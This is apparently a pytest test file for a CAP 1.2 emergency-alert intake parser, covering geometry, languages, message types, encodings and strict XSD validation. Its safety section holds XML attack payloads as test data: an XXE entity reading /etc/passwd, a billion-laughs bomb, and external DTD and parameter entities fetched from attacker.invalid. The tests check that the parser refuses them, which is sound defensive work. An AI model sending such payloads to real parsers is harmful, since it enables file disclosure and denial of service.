"""CAP 1.2 intake: every shared fixture placed right (axis order checked), safety, encodings,
message types and references, languages, tolerant findings and strict XSD validation."""

from __future__ import annotations

import time
from datetime import timedelta

import pytest
from shapely.geometry import MultiPolygon, Polygon, box
from shapely.geometry import Point as ShapelyPoint

from dispatch.alert_rules import AlertKind, Certainty, Severity, Urgency
from geo.geojson import parse_cap_circle
from icp.intake.cap import CapKindRule, kind_of, parse_cap, select_info
from icp.intake.report import AlertReport, IntakeConfig, IntakeError, LocationFlag, MsgType, Status
from tests.icp.intake import (
    HELSINKI,
    HELSINKI_AREA,
    HELSINKI_SQUARE,
    SWEDEN_AREA,
    T0,
    cap_area,
    cap_doc,
    cap_info,
    fixture_bytes,
)
from tests.shared import shared_dir

STRICT = IntakeConfig(strict=True)
A1 = "oasis_cap12_appendixA1_homeland_security.xml"
A2 = "oasis_cap12_appendixA2_thunderstorm_polygon.xml"
A3 = "oasis_cap12_appendixA3_earthquake_update_circle.xml"
A4 = "oasis_cap12_appendixA4_amber_multilang.xml"
NAADS = "canada_naads_eccc_wind_warning_update.xml"
NWS = "nws_ipaws_hurricane_warning_multipolygon.xml"
SWEDEN = "NONCONFORMING_sweden_krisinformation_custom_polygon_lonlat.xml"


TOLERANT = IntakeConfig()


def cap(name: str, config: IntakeConfig = TOLERANT) -> AlertReport:
    return parse_cap(fixture_bytes("cap", name), config)


def parse(text: str, config: IntakeConfig = TOLERANT, **kw) -> AlertReport:
    return parse_cap(text.encode("utf-8"), config, **kw)


def codes(report: AlertReport) -> set[str]:
    return {f.code for f in report.findings}


# --- every fixture, with the expected place ---------------------------------------------------

# name -> (msgType, kind, (lat range, lon range) of the location or None, area type, flags)
EXPECTED = {
    A1: (MsgType.ALERT, AlertKind.OTHER, None, None, {LocationFlag.NO_LOCATION}),
    # Sacramento NWS: the Sierra Nevada near Kirkwood, CA: lat about 38.5 (north), lon about -119.9.
    A2: (MsgType.ALERT, AlertKind.WEATHER, ((38.34, 38.62), (-120.14, -119.74)), Polygon, set()),
    # Brawley, CA, a circle of radius 0: the point itself.
    A3: (MsgType.UPDATE, AlertKind.OTHER, ((32.9525, 32.9525), (-115.5527, -115.5527)), None, set()),
    A4: (MsgType.ALERT, AlertKind.OTHER, None, None,
         {LocationFlag.GEOCODE_ONLY_UNRESOLVED, LocationFlag.NO_LOCATION}),
    # Îles-de-la-Madeleine, in the Gulf of St. Lawrence: lat 47.2..47.9, lon -62.1..-61.3.
    NAADS: (MsgType.UPDATE, AlertKind.WEATHER, ((47.18, 47.89), (-62.12, -61.32)), Polygon, set()),
    # Acadia Parish, Louisiana: lat 30.05..30.48, lon -92.63..-92.14, two polygons in one area.
    NWS: (MsgType.UPDATE, AlertKind.WEATHER, ((30.05, 30.49), (-92.64, -92.14)), MultiPolygon, set()),
    # Without a service area its lon,lat points cannot be told from lat,lon ones: not used.
    SWEDEN: (MsgType.ALERT, AlertKind.OTHER, None, None,
             {LocationFlag.NONCONFORMING_LOCATION, LocationFlag.NO_LOCATION}),
}


def test_the_table_covers_every_shared_cap_fixture():
    folder = shared_dir("fixtures", "cap")
    assert {p.name for p in folder.glob("*.xml")} == set(EXPECTED)


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_fixture_parses_to_the_expected_place(name):
    msg_type, kind, where, area_type, flags = EXPECTED[name]
    report = cap(name)
    assert report.raw_format == "cap"
    assert report.msg_type is msg_type
    assert report.kind is kind
    assert set(report.location_flags) == flags
    if where is None:
        assert report.location is None
    else:
        (lat_lo, lat_hi), (lon_lo, lon_hi) = where
        assert lat_lo - 1e-9 <= report.location.lat <= lat_hi + 1e-9
        assert lon_lo - 1e-9 <= report.location.lon <= lon_hi + 1e-9
    if area_type is None:
        assert report.area is None
    else:
        assert isinstance(report.area, area_type)
        # Shapes are lon/lat (x = lon): the bounds must agree with the point's ranges.
        min_lon, min_lat, max_lon, max_lat = report.area.bounds
        assert (lat_lo, lon_lo) == pytest.approx((min_lat, min_lon), abs=0.02)
        assert (lat_hi, lon_hi) == pytest.approx((max_lat, max_lon), abs=0.02)
    assert report.status is Status.ACTUAL
    assert AlertReport.from_json(report.to_json()).to_json() == report.to_json()


def test_thunderstorm_polygon_vertex_order_is_lat_lon():
    report = cap(A2)
    # The first CAP pair is "38.47,-120.14": latitude first. In the shape x is the longitude.
    assert report.area.exterior.coords[0] == (-120.14, 38.47)
    assert report.severity is Severity.SEVERE and report.urgency is Urgency.IMMEDIATE
    assert report.certainty is Certainty.OBSERVED
    assert report.source == "KSTO@NWS.NOAA.GOV" and report.identifier == "KSTO1055887203"
    assert report.sent.utcoffset() == timedelta(hours=-7)
    assert report.infos[0].expires is not None and report.expires == report.infos[0].expires
    assert report.actionable  # an actual alert with a place (the rules decide it opens nothing)


def test_earthquake_update_circle_radius_zero_and_its_reference():
    report = cap(A3)
    assert (report.location.lat, report.location.lon) == (32.9525, -115.5527)
    assert report.references == (("trinet@caltech.edu", "TRI13970876.1"),)
    assert report.data["cap"]["references"] == [["trinet@caltech.edu", "TRI13970876.1", "2003-06-11T20:30:00-07:00"]]


def test_amber_alert_keeps_both_languages_and_picks_by_preference():
    english = cap(A4, IntakeConfig(languages=("en-US",)))
    spanish = cap(A4, IntakeConfig(languages=("es", "en-US")))
    assert [i.language for i in english.infos] == ["en-US", "es-US"]
    assert english.selected_info == 0 and english.headline == "Amber Alert in Los Angeles County"
    assert spanish.selected_info == 1 and spanish.language == "es-US"
    assert spanish.headline == "Alerta Amber en el condado de Los Ángeles"
    assert [i.area_descs for i in spanish.infos] == [("Los Angeles County",), ("condado de Los Ángeles",)]
    assert not english.actionable


def test_amber_alert_geocode_resolved_through_the_table():
    la_county = box(-118.95, 33.70, -117.65, 34.82)  # lon/lat
    report = cap(A4, IntakeConfig(geocodes={("SAME", "006037"): la_county}))
    assert report.location_flags == (LocationFlag.GEOCODE_RESOLVED,)
    assert 33.7 < report.location.lat < 34.9 and -119.0 < report.location.lon < -117.6
    assert report.area.equals(la_county)
    assert report.data["cap"]["geocodes_used"] == [["SAME", "006037"]]


def test_naads_update_french_first_english_preferred_with_its_references():
    report = cap(NAADS, IntakeConfig(languages=("en-US", "fi", "sv")))
    assert [i.language for i in report.infos] == ["fr-CA", "en-CA"]
    assert report.selected_info == 1 and report.language == "en-CA"  # same primary language
    assert report.infos[0].event == "vent" and report.infos[1].event == "wind"
    assert len(report.references) == 3
    assert report.references[-1] == ("cap-pac@canada.ca", "urn:oid:2.49.0.1.124.2177735585.2019")
    assert report.urgency is Urgency.FUTURE and report.severity is Severity.MODERATE
    assert cap(NAADS, IntakeConfig(languages=("fr",))).selected_info == 0
    # The enveloped xmldsig signatures are not CAP elements to complain about.
    assert not codes(report)


def test_nws_hurricane_two_polygons_one_of_them_tiny():
    report = cap(NWS)
    assert len(report.area.geoms) == 2
    assert sorted(round(g.area, 6) for g in report.area.geoms)[0] < 1e-4  # the 3-point sliver
    assert len(report.references) == 8
    assert report.severity is Severity.EXTREME
    assert report.infos[0].event_codes == (("SAME", "HUW"), ("NationalWeatherService", "HUW"))


def test_swedish_lonlat_file_is_flagged_with_a_sweden_service_area_never_misplaced():
    report = cap(SWEDEN, IntakeConfig(service_area=SWEDEN_AREA))
    assert LocationFlag.AXIS_SWAP_SUSPECTED in report.location_flags
    assert report.location is None and report.area is None
    assert not report.actionable
    # What the sender wrote, and where it would be with the axes swapped (Gävleborg), for a person.
    swapped = report.data["placement"]["location_if_swapped"]
    assert 60.5 < swapped["lat"] < 61.6 and 16.4 < swapped["lon"] < 17.3
    assert report.data["placement"]["area_as_written"]["type"] == "MultiPoint"
    assert {"nonconforming_element", "unknown_element", "polygon_is_point"} <= codes(report)
    assert any(f.field == "/info/0/area/0/Polygon" for f in report.findings)


def test_swedish_file_refused_in_strict_mode_with_the_xsd_message():
    with pytest.raises(IntakeError) as err:
        cap(SWEDEN, STRICT)
    assert err.value.code == "schema_invalid"
    assert err.value.field == "/info/0/area/0"
    assert "Unexpected child with tag 'Type'" in err.value.message
    assert len(err.value.errors()) == 5


@pytest.mark.parametrize("name", [A1, A2, A3, A4, NAADS, NWS])
def test_strict_mode_accepts_the_published_examples(name):
    # All four OASIS appendix examples are XSD-valid; so are the NAADS and NWS alerts once the
    # xmldsig signature is left to signature checking (see cap_schema()).
    assert cap(name, STRICT).identifier


# --- service area and axis order ------------------------------------------------------------


def test_inside_outside_and_swapped_against_a_service_area():
    config = IntakeConfig(service_area=HELSINKI_AREA)
    inside = parse(cap_doc(), config)
    assert inside.location_flags == () and inside.actionable
    assert 60.16 < inside.location.lat < 60.18 and 24.93 < inside.location.lon < 24.95

    lon_lat = " ".join(",".join(reversed(p.split(","))) for p in HELSINKI_SQUARE.split())
    swapped = parse(cap_doc(infos=(cap_info(areas=(cap_area(polygon=lon_lat),)),)), config)
    assert swapped.location_flags == (LocationFlag.AXIS_SWAP_SUSPECTED,)
    assert swapped.location is None and not swapped.actionable

    tampere = "61.49,23.76 61.49,23.78 61.51,23.78 61.51,23.76 61.49,23.76"
    outside = parse(cap_doc(infos=(cap_info(areas=(cap_area(polygon=tampere),)),)), config)
    assert outside.location_flags == (LocationFlag.OUTSIDE_SERVICE_AREA,)
    assert outside.location is not None and not outside.actionable


def test_a_regional_area_mostly_outside_lands_inside_the_service_area():
    # A warning polygon whose centroid is out at sea but which covers part of the city.
    big = "59.5,24.0 59.5,25.0 60.2,25.0 60.2,24.0 59.5,24.0"
    report = parse(cap_doc(infos=(cap_info(areas=(cap_area(polygon=big),)),)),
                   IntakeConfig(service_area=HELSINKI_AREA))
    assert report.location_flags == ()
    assert HELSINKI_AREA.contains(_shp(report.location))


def _shp(point):
    return ShapelyPoint(point.lon, point.lat)


def test_circle_centre_is_the_location_and_the_area_is_the_disc():
    report = parse(cap_doc(infos=(cap_info(areas=(cap_area(circle=f"{HELSINKI[0]},{HELSINKI[1]} 0.5"),)),)))
    assert (report.location.lat, report.location.lon) == HELSINKI
    assert isinstance(report.area, Polygon)
    assert report.area.contains(_shp(report.location))


def test_polygon_wins_over_geocode_in_the_same_area_and_several_areas_unite():
    far = box(30.0, 60.0, 30.1, 60.1)
    areas = (
        cap_area(polygon=HELSINKI_SQUARE, geocodes=(("X", "far"),)),
        cap_area(circle="60.20,24.90 0.2"),
    )
    report = parse(cap_doc(infos=(cap_info(areas=areas),)), IntakeConfig(geocodes={("X", "far"): far}))
    assert isinstance(report.area, MultiPolygon) and not report.area.intersects(far)
    assert LocationFlag.GEOCODE_RESOLVED not in report.location_flags


# --- safety ----------------------------------------------------------------------------------

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&xxe;</identifier></alert>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol9;</identifier></alert>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE alert SYSTEM "http://attacker.invalid/cap.dtd">
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>x</identifier></alert>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>"""


@pytest.mark.parametrize("payload", [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY],
                         ids=["xxe-file", "billion-laughs", "external-dtd", "parameter-entity"])
@pytest.mark.parametrize("strict", [False, True])
def test_entity_attacks_are_refused_before_any_entity_is_read(payload, strict):
    started = time.perf_counter()
    with pytest.raises(IntakeError) as err:
        parse_cap(payload, IntakeConfig(strict=strict))
    assert time.perf_counter() - started < 0.5
    assert err.value.code == "xml_forbidden" and err.value.status == 400
    assert "entit" in err.value.message and "root:" not in err.value.message


def test_oversize_documents_are_refused_unread():
    padding = "x" * (256 * 1024)
    doc = cap_doc(infos=(cap_info(extra=f"<audience>{padding}</audience>"),)).encode()
    with pytest.raises(IntakeError) as err:
        parse_cap(doc)
    assert err.value.code == "too_large" and err.value.status == 413
    assert parse_cap(doc, IntakeConfig(max_cap_bytes=len(doc))).identifier == "ICP-TEST-1"


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (b"<alert xmlns='urn:oasis:names:tc:emergency:cap:1.2'><identifier>x</alert>", "malformed_xml"),
        (b"", "malformed_xml"),
        (b'{"not": "xml"}', "malformed_xml"),
        (b'<?xml version="1.0" encoding="x-klingon"?><alert/>', "unsupported_encoding"),
        (b"<rss version='2.0'><channel/></rss>", "not_cap"),
        (b"<alert xmlns='urn:example:not-cap'/>", "not_cap"),
    ],
)
def test_malformed_and_foreign_documents(body, code):
    with pytest.raises(IntakeError) as err:
        parse_cap(body)
    assert err.value.code == code
    if code == "malformed_xml" and body:
        assert "line 1" in err.value.message


# --- encodings and namespaces ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("encoding", "headline"),
    [
        ("ISO-8859-1", "Brand i Gävle, rök över Sörby"),
        ("windows-1252", "Brand – rök € Gävle"),
        ("UTF-16", "Tulipalo Töölössä"),
        ("Shift_JIS", "火災警報 東京"),
    ],
)
def test_encodings_declared_in_the_header_are_honoured(encoding, headline):
    doc = cap_doc(encoding=encoding, infos=(cap_info(headline=headline),)).encode(encoding)
    assert headline.encode("utf-8") not in doc or encoding.upper().startswith("UTF-8")
    report = parse_cap(doc)
    assert report.headline == headline
    assert parse_cap(doc, STRICT).headline == headline


def test_latin1_description_with_umlauts_round_trips_through_json():
    text = "Kraftig rökutveckling från industrilokal i Gävle; stäng dörrar och fönster."
    doc = cap_doc(encoding="ISO-8859-1",
                  infos=(cap_info(extra="", headline="Rök i Gävle").replace(
                      "</headline>", f"</headline><description>{text}</description>"),)).encode("iso-8859-1")
    report = parse_cap(doc)
    assert report.description == text
    assert AlertReport.from_json(report.to_json()).description == text


def test_namespace_prefixes_are_resolved():
    doc = cap_doc(prefix="cap")
    assert doc.startswith('<?xml') and "<cap:alert" in doc and "<cap:polygon>" in doc
    report = parse(doc, STRICT)
    assert report.identifier == "ICP-TEST-1" and report.area is not None


def test_documents_without_the_namespace_or_of_cap_1_1_are_read_with_a_finding():
    bare = parse(cap_doc(namespace=""))
    assert "no_namespace" in codes(bare) and bare.location is not None
    old = parse(cap_doc(namespace="urn:oasis:names:tc:emergency:cap:1.1"))
    assert "cap_version" in codes(old)
    with pytest.raises(IntakeError) as err:
        parse(cap_doc(namespace="urn:oasis:names:tc:emergency:cap:1.1"), STRICT)
    assert err.value.code == "schema_invalid"


# --- message types and references ------------------------------------------------------------


def test_cancel_without_info_is_recorded_with_its_references():
    refs = ("sensors@icp.example,ICP-TEST-1,2026-03-01T12:00:00+02:00\n"
            "  sensors@icp.example,ICP-TEST-0,2026-03-01T11:00:00+02:00")
    report = parse(cap_doc(identifier="ICP-TEST-2", msg_type="Cancel", references=refs, infos=()), STRICT)
    assert report.msg_type is MsgType.CANCEL
    assert report.references == (("sensors@icp.example", "ICP-TEST-1"), ("sensors@icp.example", "ICP-TEST-0"))
    assert report.infos == () and report.selected_info is None
    assert report.kind is AlertKind.OTHER and report.location is None
    assert report.location_flags == (LocationFlag.NO_LOCATION,)
    assert not report.actionable


@pytest.mark.parametrize("msg_type", ["Alert", "Update", "Cancel", "Ack", "Error"])
def test_every_msg_type(msg_type):
    refs = None if msg_type == "Alert" else "a@b,ID-1,2026-03-01T11:00:00+02:00"
    report = parse(cap_doc(msg_type=msg_type, references=refs), STRICT)
    assert report.msg_type is MsgType(msg_type.lower())
    assert report.actionable is (msg_type in ("Alert", "Update"))


def test_references_tolerate_junk_and_updates_without_references_are_noted():
    report = parse(cap_doc(msg_type="Update", references="a@b,ID-1,2026-03-01T11:00:00+02:00 garbage a@b,ID-2"))
    assert report.references == (("a@b", "ID-1"), ("a@b", "ID-2"))
    assert {"invalid_reference", "nonconforming_reference"} <= codes(report)
    bare = parse(cap_doc(msg_type="Update"))
    assert any(f.code == "missing_element" and f.field == "/references" for f in bare.findings)


def test_an_unknown_msg_type_is_refused_even_when_tolerant():
    with pytest.raises(IntakeError) as err:
        parse(cap_doc(msg_type="Revoke"))
    assert err.value.field == "/msgType"


def test_exercises_and_tests_are_not_actionable():
    assert parse(cap_doc(status="Exercise")).status is Status.EXERCISE
    assert not parse(cap_doc(status="Test")).actionable


# --- languages -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("languages", "preferences", "index"),
    [
        (["fr-CA", "en-CA"], ["en-US"], 1),
        (["en-CA", "en-US"], ["en-US"], 1),  # an exact tag beats a primary-language match
        (["en-US", "es-US"], ["es", "en-US"], 1),  # the first preference decides
        (["en-US", "es-US"], ["es"], 1),
        (["fi", "sv"], ["sv", "fi"], 1),
        (["fi-FI", "sv-FI"], ["en-US", "fi", "sv"], 0),
        (["de", "fr"], ["en-US"], 0),  # no match: the first
        (["EN-us"], ["en-US"], 0),
    ],
)
def test_select_info(languages, preferences, index):
    assert select_info(languages, preferences) == index


def test_info_without_language_is_en_us_as_cap_says():
    report = parse(cap_doc(infos=(cap_info(language=None, headline="A"), cap_info(language="fi", headline="B"))),
                   IntakeConfig(languages=("en-US", "fi")))
    assert report.headline == "A" and report.language == "en-US"


# --- tolerant findings and strict refusals ---------------------------------------------------


def test_tolerant_mode_records_findings_and_keeps_going():
    info = cap_info(severity="Awful", urgency="immediate", category="Firez")
    info = info.replace("<event>Structure fire</event>", "")
    report = parse(cap_doc(scope="", sent="2026-03-01T10:00:00Z", infos=(info,)))
    by_field = {f.field: f.code for f in report.findings}
    assert by_field["/info/0/severity"] == "invalid_value" and report.severity is Severity.UNKNOWN
    assert by_field["/info/0/urgency"] == "nonconforming_value" and report.urgency is Urgency.IMMEDIATE
    assert by_field["/info/0/category/0"] == "invalid_value"
    assert by_field["/info/0/event"] == "missing_element"
    assert by_field["/sent"] == "nonconforming_time"  # "Z" is not CAP's form; the instant is clear
    assert report.location is not None


def test_strict_mode_refuses_an_xsd_invalid_document_with_the_field():
    doc = cap_doc(infos=(cap_info(urgency="Soon"),))
    assert parse(doc).urgency is Urgency.UNKNOWN
    with pytest.raises(IntakeError) as err:
        parse(doc, STRICT)
    assert err.value.code == "schema_invalid" and err.value.field == "/info/0/urgency"
    assert "Soon" in err.value.message


@pytest.mark.parametrize(
    ("polygon", "code"),
    [
        ("95.0,24.9 95.0,25.0 95.1,25.0 95.0,24.9", "invalid_polygon"),  # latitude out of range
        ("60.1,24.9 60.1,25.0 60.2,25.0 60.3,24.9", "invalid_polygon"),  # not closed
        ("60.1,24.9 60.1,25.0", "invalid_polygon"),  # too few pairs
        ("60.1,24.9 60.2,25.0 60.2,24.9 60.1,25.0 60.1,24.9", "repaired_polygon"),  # a bow-tie
    ],
)
def test_bad_polygons_are_findings_when_tolerant_and_refusals_when_strict(polygon, code):
    doc = cap_doc(infos=(cap_info(areas=(cap_area(polygon=polygon),)),))
    report = parse(doc)
    assert any(f.code == code and f.field == "/info/0/area/0/polygon/0" for f in report.findings)
    assert (report.location is not None) is (code == "repaired_polygon")
    with pytest.raises(IntakeError) as err:
        parse(doc, STRICT)
    assert err.value.code == "invalid_area" and err.value.field == "/info/0/area/0/polygon/0"


def test_missing_identity_is_refused_and_missing_sent_needs_the_receipt_time():
    with pytest.raises(IntakeError) as err:
        parse(cap_doc(identifier=""))
    assert err.value.field == "/identifier"
    with pytest.raises(IntakeError) as err:
        parse(cap_doc(sent="yesterday"))
    assert err.value.field == "/sent"
    report = parse(cap_doc(sent="yesterday"), received_at=T0)
    assert report.sent == T0 and "sent_replaced" in codes(report)


def test_times_ahead_of_the_clock_are_noted():
    report = parse(cap_doc(sent="2026-03-01T15:00:00+00:00"), now=T0)
    assert "time_in_future" in codes(report)


# --- kinds -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("codes_", "text", "categories", "kind"),
    [
        ([("SAME", "FFW")], "Flash Flood Warning", ["Met"], AlertKind.FLOOD),
        ([], "Structure fire", ["Fire"], AlertKind.FIRE),
        ([], "Fire Weather Watch", ["Met"], AlertKind.WEATHER),
        ([], "Smoke reported", ["Other"], AlertKind.SMOKE),
        ([], "Shots fired", ["Security"], AlertKind.GUNSHOT),
        ([], "Gas leak", ["Safety"], AlertKind.GAS),
        ([], "Power outage", ["Infra"], AlertKind.UTILITY_OUTAGE),
        ([], "Storm Surge Warning", ["Met"], AlertKind.FLOOD),
        ([("SAME", "CAE")], "Child Abduction", ["Rescue"], AlertKind.OTHER),
        ([], "Something", ["Health"], AlertKind.MEDICAL),
        ([], "Something", ["Geo"], AlertKind.OTHER),
    ],
)
def test_kind_rules(codes_, text, categories, kind):
    assert kind_of(codes_, text, categories) is kind


def test_kind_rules_are_configurable():
    rules = (CapKindRule(AlertKind.GUNSHOT, words=r"laukau"),)
    report = parse_cap(cap_doc(infos=(cap_info(event="Laukauksia kuultu", category="Security"),)).encode(),
                       kind_rules=rules)
    assert report.kind is AlertKind.GUNSHOT


def test_a_parse_is_fast():
    doc = fixture_bytes("cap", NAADS)
    parse_cap(doc)
    started = time.perf_counter()
    for _ in range(50):
        parse_cap(doc)
    assert (time.perf_counter() - started) / 50 < 0.01


@pytest.mark.parametrize("radius_km", ["0.05", "2", "9.9", "25"])
def test_circles_match_the_geodesic_outline(radius_km):
    text = f"{HELSINKI[0]},{HELSINKI[1]} {radius_km}"
    report = parse(cap_doc(infos=(cap_info(areas=(cap_area(circle=text),)),)))
    exact = parse_cap_circle(text).to_polygon()
    assert report.area.symmetric_difference(exact).area / exact.area < 0.01


def test_messages_quote_only_a_bounded_part_of_what_was_sent():
    long_tag = "X" * 5_000
    doc = cap_doc(infos=(cap_info(extra=f"<{long_tag}>y</{long_tag}>"),))
    report = parse(doc)
    assert all(len(f.message) < 200 and len(f.field) < 100 for f in report.findings)
    with pytest.raises(IntakeError) as err:
        parse(doc, STRICT)
    assert all(len(e["message"]) < 400 for e in err.value.errors())
